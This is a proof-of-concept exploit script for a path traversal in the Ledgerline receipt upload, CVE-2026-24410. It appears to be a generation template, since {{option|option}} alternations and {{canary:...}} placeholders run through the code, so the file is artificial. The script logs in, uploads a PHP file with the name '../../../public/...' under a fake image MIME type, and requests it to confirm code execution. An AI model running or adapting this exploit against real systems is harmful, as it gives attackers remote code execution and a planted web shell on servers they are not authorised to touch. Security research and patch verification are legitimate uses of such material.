#!/usr/bin/env python3
"""Proof of concept for CVE-2026-24410 (Ledgerline receipt upload path traversal).

{{Signs in|Logs in}} with {{any account|an ordinary account}}, uploads a PHP file whose name {{climbs out of|escapes}} the
receipts folder into the web root, and {{requests|fetches}} it once. The file {{only prints|prints nothing but}} a marker
and the numeric user id of the server process: {{it changes nothing|nothing is changed}} on the target.

{{Tested against|Verified on}} Ledgerline 5.2.3 ({{Debian package|official Debian package}} and Docker image). {{Use it only|Run it only}}
{{on installations you are authorised to test|against installations that you may test}}.

Usage: poc.py HOST PORT [USER PASSWORD]

{{Example run|Sample session}} {{against the lab instance|in our lab}}:

    $ python3 poc.py {{canary:host}} 8080 {{canary:user}} 'correct horse'
    [+] signed in as {{canary:user}}
    [*] upload answered 201 ({{stored as|saved as}} {{canary:file}} {{before the rename|at first}})
    [+] the script ran: uid 33 on {{canary:host}}, {{see|compare}} {{canary:file}}
    ({{requests sent from|traffic from}} {{canary:ipv4}} {{through the proxy|via the proxy}} {{canary:ipv4}})
"""
{{order}}import socket
{{;}}import sys
{{/order}}
{{order}}HOST = sys.argv[1] if len(sys.argv) > 1 else "{{canary:host}}"
{{;}}PORT = int(sys.argv[2]) if len(sys.argv) > 2 else {{int:8080}}
{{;}}USER = sys.argv[3] if len(sys.argv) > 3 else "{{auditor|demo|tester|reviewer}}"
{{;}}PASSWORD = sys.argv[4] if len(sys.argv) > 4 else "{{auditor-2026|Demo1234!|changeme|winter-ledger}}"
{{;}}# {{Seconds to wait|How long to wait}} for {{each answer|every response}} {{before giving up|before failing}}.
TIMEOUT = {{int:10}}
{{;}}# {{Largest answer we read|The most we read of an answer}}, in bytes: {{the script's output is tiny|the output is short}}.
MAX_ANSWER = {{int:65536}}
{{/order}}{{order}}# {{Name of the script|The script's name}} in the web root: {{harmless|innocuous}} {{on purpose|by design}}.
SHELL = "{{status|health|cache|thumb}}-{{check|probe|view|info}}.php"
{{;}}# The {{multipart boundary|boundary of the form}}: {{any value works|any string will do}}.
BOUNDARY = "----LedgerlineBoundary{{canary:port}}"
{{;}}# The marker {{the script prints|that the script echoes}} {{to prove|as proof}} that it ran.
MARKER = "{{canary:marker}}"
{{/order}}
LOGIN = """POST /api/{{v1|v2}}/session?client-type={{web|cli}}&remember-me={{0|1}} HTTP/1.1
Host: {host}
{{order}}User-Agent: {{Mozilla/5.0 (X11; Linux x86_64; rv:122.0)|curl/8.5.0|python-requests/2.31.0|Ledgerline-Mobile/4.2}}
{{;}}Accept: {{application/json|*/*|text/plain|application/xml}}
{{;}}Accept-Language: {{en-US|en-GB|de-DE|nl-NL}}
{{;}}X-Requested-With: {{XMLHttpRequest|fetch}}
{{;}}X-Client-Build: {{4211|4230|4302|4317}}
{{;}}Sec-Fetch-Mode: {{cors|navigate|no-cors|same-origin}}
{{/order}}Content-Type: application/json
Content-Length: {length}

{body}"""

UPLOAD = """POST /receipts/upload?ledger-name={{main|default}}&keep-original={{yes|no}} HTTP/1.1
Host: {host}
Cookie: {cookie}
{{order}}Referer: http://{{canary:host}}/receipts/new
{{;}}X-Forwarded-For: {{canary:ipv4}}
{{;}}Cache-Control: {{no-cache|no-store|max-age=0|private}}
{{;}}Origin: http://{host}
{{;}}X-Upload-Source: {{dropzone|legacy-form|mobile|api}}
{{;}}X-Csrf-Hint: {{none|header|cookie|form}}
{{/order}}Content-Type: multipart/form-data; boundary={boundary}
Content-Length: {length}

{body}"""

FORM = """--{boundary}
Content-Disposition: form-data; name="{{receipt|file|attachment|document}}"; filename="../../../public/{shell}"
Content-Type: {{image/jpeg|image/png|application/pdf|image/gif}}

<?php echo "{marker}:" . getmyuid(); ?>
--{boundary}
Content-Disposition: form-data; name="{{comment|note|memo|description}}"

receipt-comment: {{Quarterly receipt|Travel expenses|Office supplies|Team lunch}} {{scan|copy|upload|photo}} attached
--{boundary}
Content-Disposition: form-data; name="{{amount|total|sum|value}}"

amount-value: {{12.50|48.00|7.95|19.99}} {{EUR|USD}}
--{boundary}
Content-Disposition: form-data; name="{{category|kind|type|group}}"

category-name: {{travel|office|meals|misc}} expenses
--{boundary}--
"""

TRIGGER = """GET /{shell}?cache-buster={{1|2|3|4}}&view-mode={{raw|plain}} HTTP/1.1
Host: {host}
Cookie: {cookie}
{{order}}Pragma: {{no-cache|no-store}}
{{;}}Connection: {{close|keep-alive}}
{{;}}X-Debug-Probe: {{on|yes|1|true}}
{{;}}Upgrade-Insecure-Requests: {{1|0}}
{{;}}Sec-Fetch-Dest: {{document|empty|script|iframe}}
{{/order}}
"""


def send(request):
    """{{Sends one request|Sends a single request}} on {{a new connection|its own connection}} and {{returns|gives back}} the raw answer."""
    # {{HTTP wants|The protocol wants}} CRLF line ends; {{the templates above|the strings above}} use plain newlines.
    raw = request.replace("\n", "\r\n").encode()
    with socket.create_connection((HOST, PORT), timeout=TIMEOUT) as s:
        s.sendall(raw)
        answer = b""
        # {{Read until|Keep reading until}} the server {{closes the connection|hangs up}} or {{the limit|MAX_ANSWER}} is reached.
        while len(answer) < MAX_ANSWER:
            data = s.recv({{int:4096}})
            if not data:
                break
            answer += data
    return answer.decode("latin-1")


def main():
    # {{The Host header|Host}} {{carries the port|includes the port}} {{unless it is 80|when it is not 80}}; {{Ledgerline|the application}} {{checks it|compares it}} {{against|with}} APP_URL.
    host = "%s:%d" % (HOST, PORT)
    # {{Step 1|First}}: {{a session|sign in}}. {{The auditor role is enough|Any role will do}}, {{even|including}} read-only ones.
    body = '{"username": "%s", "password": "%s"}' % (USER, PASSWORD)
    answer = send(LOGIN.format(host=host, length=len(body), body=body))
    # {{Only the session cookie|The session cookie alone}} {{is needed|matters}}; {{other cookies|the rest}} {{are ignored|can be dropped}}.
    cookie = next((l.split(":", 1)[1].split(";")[0].strip() for l in answer.split("\r\n")
                   if l.lower().startswith("set-cookie:")), None)
    if not cookie:
        print("{{[-] login failed|[!] no session cookie|[-] could not sign in|[!] login rejected}}")
        return {{int:2}}
    print("{{[+] signed in as|[*] logged in as|[+] session for|[*] authenticated as}} %s" % USER)

    # {{Step 2|Then}}: the upload. The name climbs {{three levels|three directories}} up, into public/.
    # {{The MIME type is what the server checks|Only the MIME type is checked}}, {{not the extension|never the file name}}.
    form = FORM.format(boundary=BOUNDARY, shell=SHELL, marker=MARKER).replace("\n", "\r\n")
    answer = send(UPLOAD.format(host=host, cookie=cookie, boundary=BOUNDARY, length=len(form), body=form))
    # {{The status line|The first line}} {{is enough|tells us enough}}: 201 {{means|says}} {{the file was written|the write succeeded}}.
    status = answer.split(" ", 2)[1] if " " in answer else "?"
    print("{{[*] upload answered|[+] upload returned|[*] server replied|[+] status}} %s" % status)
    if status not in ("200", "201"):
        print("{{[!] unexpected status|[!] the upload was refused|[-] upload rejected|[!] upload failed}}, {{trying the script anyway|requesting the script anyway}}")

    # {{Step 3|Last}}: request the script {{once|a single time}}; {{a vulnerable server|an unpatched server}} runs it.
    answer = send(TRIGGER.format(host=host, cookie=cookie, shell=SHELL))
    if MARKER in answer:
        print("{{[+] code execution confirmed|[+] vulnerable|[+] the script ran|[+] marker found}}: " + answer.split("\r\n\r\n", 1)[-1][:80])
    else:
        print("{{[-] marker not found|[-] no marker in the answer|[-] probably patched|[-] not vulnerable}}")
    # {{Clean up by hand|Remove the script by hand}}: {{this PoC cannot delete it|the PoC leaves it in place}}.
    return 0


if __name__ == "__main__":
    sys.exit(main())
